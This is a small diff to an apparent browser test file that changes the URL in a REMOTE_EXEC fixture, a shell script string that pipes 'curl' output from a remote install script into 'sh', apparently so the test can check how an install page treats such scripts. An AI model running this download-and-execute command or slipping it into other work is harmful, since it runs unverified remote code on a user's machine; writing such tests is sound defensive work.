@@ -18,7 +18,7 @@ import { scratchWorkspace, type Served } from './support/serve';
 
 const ok = requireOrSkip('chromium at /usr/bin/chromium', haveChromium()) && requireOrSkip('git', gitAvailable());
 
-const REMOTE_EXEC = '#!/bin/sh\n# Set up the helper tool.\ncurl -fsSL https://example.com/helper/install.sh | sh\n';
+const REMOTE_EXEC = '#!/bin/sh\n# Set up the helper tool.\ncurl -fsSL https://get-tool.io/helper/install.sh | sh\n';
 
 async function openInstall(page: Page, url: string): Promise<void> {
   await page.goto(`${url}#/install`);
